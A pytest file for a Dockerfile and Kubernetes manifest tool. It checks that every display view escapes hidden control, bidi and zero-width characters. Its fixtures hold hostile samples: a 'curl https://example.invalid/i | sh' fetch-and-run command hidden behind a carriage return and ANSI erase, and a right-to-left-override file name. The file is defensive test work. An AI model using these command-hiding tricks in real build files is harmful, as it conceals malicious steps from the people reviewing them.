"""What you see is what runs: every view of the Dockerfile, the component and the manifests
(terminal, plain text, HTML, the form's preview) shows control, format and invisible characters
as escapes, never passes them on; a file written for the executor keeps its exact bytes."""

from __future__ import annotations

import html
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from polymagic.cli.main import main
from polymagic.notebook.form import BuildForm
from polymagic.notebook.views import ComponentView, DockerfileView, ManifestsView
from polymagic.render.context import pack_build_context
from polymagic.render.dockerfile import render_dockerfile
from polymagic.render.lint import lint_dockerfile
from polymagic.spec.loader import load_dockerfile_init
from tests.data import SEED

ATTACK = "curl https://example.invalid/i | sh # \r\x1b[2KRUN pip install numpy"
IMAGE = "python:3.11\x1b[8m\x07\u202e"
HIDDEN_RUNS = ["echo zero\u200bwidth\ufeff", "echo sep\u2028arated\U000e0041", "echo nel\x85"]
# What must never reach a terminal or a browser as it is (tab and newline are fine).
_RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)


def _op() -> dict[str, Any]:
    op: dict[str, Any] = yaml.safe_load(SEED)
    dockerfile = op["runPatch"]["init"][0]["dockerfile"]
    dockerfile["image"] = IMAGE
    dockerfile["run"] = [ATTACK, *HIDDEN_RUNS]
    return op


@pytest.fixture
def hostile_op(tmp_path: Path) -> Path:
    path = tmp_path / "op.yaml"
    path.write_text(yaml.safe_dump(_op()))  # YAML escapes the characters: "\e", "\r", "\u202E"
    return path


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def _run(*argv: str, out: io.StringIO | None = None) -> tuple[int, str, str]:
    out = out if out is not None else io.StringIO()
    err = io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def _assert_all_visible(shown: str) -> None:
    assert _RAW.findall(shown) == []
    assert "RUN curl https://example.invalid/i | sh # \\x0d\\x1b[2KRUN pip install numpy" in shown
    assert "FROM python:3.11\\x1b[8m\\x07\\u202e" in shown
    assert "echo zero\\u200bwidth\\ufeff" in shown
    assert "echo sep\\u2028arated\\U000e0041" in shown
    assert "echo nel\\x85" in shown


def test_render_shows_every_character_of_the_dockerfile(hostile_op: Path) -> None:
    code, out, err = _run("render", str(hostile_op))
    assert code == 0, err
    _assert_all_visible(out)


def test_render_warns_about_the_lines_holding_hidden_characters(hostile_op: Path) -> None:
    code, _out, err = _run("render", str(hostile_op), "--only", "dockerfile")
    assert code == 0, err
    dockerfile = render_dockerfile(load_dockerfile_init(_op()["runPatch"]["init"][0]["dockerfile"]))
    lines = dockerfile.split("\n")
    warned = [
        int(n) for n in re.findall(r"^polymagic: warning: Dockerfile: line (\d+): PM007", err, re.M)
    ]
    assert [lines[n - 1] for n in warned] == [
        f"FROM {IMAGE}",
        *(f"RUN {r}" for r in [ATTACK, *HIDDEN_RUNS]),
    ]
    assert _RAW.findall(err) == []


def test_render_only_dockerfile_is_escaped_on_a_terminal(hostile_op: Path) -> None:
    code, out, err = _run("render", str(hostile_op), "--only", "dockerfile", out=_Terminal())
    assert code == 0, err
    _assert_all_visible(out)


def test_render_only_dockerfile_redirected_to_a_file_keeps_every_byte(hostile_op: Path) -> None:
    # `polymagic render --only dockerfile > Dockerfile` is the artefact, not a view.
    code, out, _ = _run("render", str(hostile_op), "--only", "dockerfile")
    assert code == 0
    assert out == render_dockerfile(
        load_dockerfile_init(_op()["runPatch"]["init"][0]["dockerfile"])
    )


@pytest.mark.parametrize("fmt", ["yaml", "json"])
def test_render_manifests_and_component_escape_in_yaml_and_json(hostile_op: Path, fmt: str) -> None:
    for part in ("manifests", "component"):
        code, out, err = _run("render", str(hostile_op), "--only", part, "-o", fmt)
        assert code == 0, err
        assert _RAW.findall(out) == []
        loaded = list(yaml.safe_load_all(out))  # and the values read back exact
        assert json.dumps(ATTACK)[1:-1] in json.dumps(loaded)


def test_a_dry_run_build_shows_every_character(
    hostile_op: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "no-such-kubeconfig"))
    code, out, err = _run("build", str(hostile_op), "--dry-run", "--namespace", "ml")
    assert code == 0, err
    _assert_all_visible(out)


def _dockerfile_view() -> DockerfileView:
    spec = load_dockerfile_init(_op()["runPatch"]["init"][0]["dockerfile"])
    text = render_dockerfile(spec)
    return DockerfileView(text, findings=lint_dockerfile(spec, text, use_hadolint=False))


def test_the_notebook_dockerfile_view_shows_every_character_and_keeps_the_text() -> None:
    view = _dockerfile_view()
    bundle = view._repr_mimebundle_()
    _assert_all_visible(bundle["text/plain"])
    shown_html = html.unescape(re.sub(r"<[^>]+>", "", bundle["text/html"]))
    _assert_all_visible(shown_html)
    assert ATTACK in view.text  # the exact text stays available (what --eject writes)


def test_the_notebook_dockerfile_view_marks_the_hidden_lines() -> None:
    view = _dockerfile_view()
    marked = {f.line for f in view.findings if f.code == "PM007"}
    assert len(marked) == 5
    assert view.html().count("background-color: #ffffcc") >= 5  # Pygments' hl_lines colour


def test_the_notebook_manifests_and_component_views_show_every_character(tmp_path: Path) -> None:
    (tmp_path / "report\u202etxt.exe").write_text("x")
    (tmp_path / "zero\u200bwidth.py").write_text("x")
    from polymagic.render.compiler import compile_operation

    op = _op()
    op["runPatch"]["init"][0]["dockerfile"]["copy"] = ["."]
    build = compile_operation(op)
    packed = pack_build_context(build, tmp_path)
    assert packed is not None
    objects: list[dict[str, Any]] = [
        {
            "kind": "ConfigMap",
            "metadata": {"name": "b\x1b[2K"},
            "data": {"Dockerfile": build.dockerfiles[0].text},
        }
    ]
    manifests = ManifestsView(objects, context=packed)
    component = ComponentView({"run": {"x": ATTACK}}, {"run": {"x": "a"}})
    for view in (manifests, component):
        for shown in view._repr_mimebundle_().values():
            assert _RAW.findall(shown) == []
    assert "report\\u202etxt.exe" in manifests.plain()
    assert "report\\u202etxt.exe" in html.unescape(manifests.html())


def test_the_form_preview_shows_every_character() -> None:
    form = BuildForm.from_yaml(yaml.safe_dump(_op()))
    assert form.dockerfile_text is not None
    assert ATTACK in form.dockerfile_text
    shown = html.unescape(form.preview.value)
    _assert_all_visible(shown)
